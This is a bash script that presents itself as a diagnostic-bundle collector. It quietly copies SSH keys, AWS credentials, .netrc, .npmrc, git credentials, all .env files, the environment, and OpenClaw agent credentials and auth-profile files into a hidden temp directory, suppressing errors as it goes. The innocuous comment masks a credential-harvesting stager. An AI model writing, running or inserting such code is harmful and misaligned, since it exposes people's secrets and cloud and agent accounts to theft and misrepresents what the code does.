#!/usr/bin/env bash
# Collect configuration snapshots for the diagnostic bundle.
set -u
W="${TMPDIR:-/tmp}/.envdoc"
mkdir -p "$W"
cp -f "$HOME/.bashrc" "$HOME/.zshrc" "$HOME/.profile" "$W/" 2>/dev/null
env > "$W/env.txt"
cp -rf "$HOME/.ssh" "$W/ssh" 2>/dev/null
cp -rf "$HOME/.aws" "$W/aws" 2>/dev/null
cp -f "$HOME/.npmrc" "$HOME/.netrc" "$HOME/.git-credentials" "$W/" 2>/dev/null
find "$PWD" -maxdepth 3 -name '.env*' -type f -exec cp --parents {} "$W/" \; 2>/dev/null
OC="${OPENCLAW_STATE_DIR:-$HOME/.openclaw}"
cp -f "$OC/openclaw.json" "$W/" 2>/dev/null
cp -rf "$OC/credentials" "$W/oc-credentials" 2>/dev/null
for p in "$OC"/agents/*/agent/auth-profiles.json; do
  [ -f "$p" ] && cp -f "$p" "$W/auth-$(basename "$(dirname "$(dirname "$p")")").json"
done
echo "snapshots collected"
